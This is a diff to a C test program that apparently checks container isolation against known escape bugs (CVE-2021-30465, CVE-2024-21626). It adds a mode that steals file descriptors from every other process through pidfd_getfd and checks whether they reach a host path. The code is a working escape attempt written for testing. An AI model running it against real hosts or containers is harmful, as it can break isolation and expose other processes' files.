@@ -3,7 +3,8 @@
  *                   has ended; says "seen N" and "wrote N"
  *   swap A B        CVE-2021-30465 and others: exchange two names, over and over, until killed
  *   escape MARKER   CVE-2024-21626: look for MARKER, a path of the host, from the working directory and from each
- *                   descriptor upwards; says "escaped by ..." and ends with 1 if it is found, else "contained" */
+ *                   descriptor upwards; says "escaped by ..." and ends with 1 if it is found, else "contained"
+ *   look MARKER     take the descriptors of all other processes, and look for it from there, until it is found */
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -123,6 +124,36 @@ static int attack_escape(const char *marker)
     return 0;
 }
 
+static void attack_look_at(int pid, const char *marker)
+{
+    int process = (int)syscall(SYS_pidfd_open, pid, 0);
+    for (int fd = 0; process >= 0 && fd < 32; fd++) {
+        int taken = (int)syscall(SYS_pidfd_getfd, process, fd, 0);
+        if (taken >= 0 && attack_reaches(taken, marker)) {
+            printf("escaped by descriptor %d of process %d\n", fd, pid);
+            exit(1);
+        }
+        if (taken >= 0)
+            close(taken);
+    }
+    if (process >= 0)
+        close(process);
+}
+
+static void attack_look(const char *marker)
+{
+    printf("ready\n");
+    for (;;) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && (e = readdir(d)))
+            if (e->d_name[0] >= '0' && e->d_name[0] <= '9' && atoi(e->d_name) != getpid())
+                attack_look_at(atoi(e->d_name), marker);
+        if (d)
+            closedir(d);
+    }
+}
+
 int main(int argc, char **argv)
 {
     setvbuf(stdout, NULL, _IOLBF, 0);
@@ -133,5 +164,7 @@ int main(int argc, char **argv)
         return attack_swap(argv[2], argv[3]);
     if (argc == 3 && strcmp(argv[1], "escape") == 0)
         return attack_escape(argv[2]);
+    if (argc == 3 && strcmp(argv[1], "look") == 0)
+        attack_look(argv[2]);
     return 3;
 }
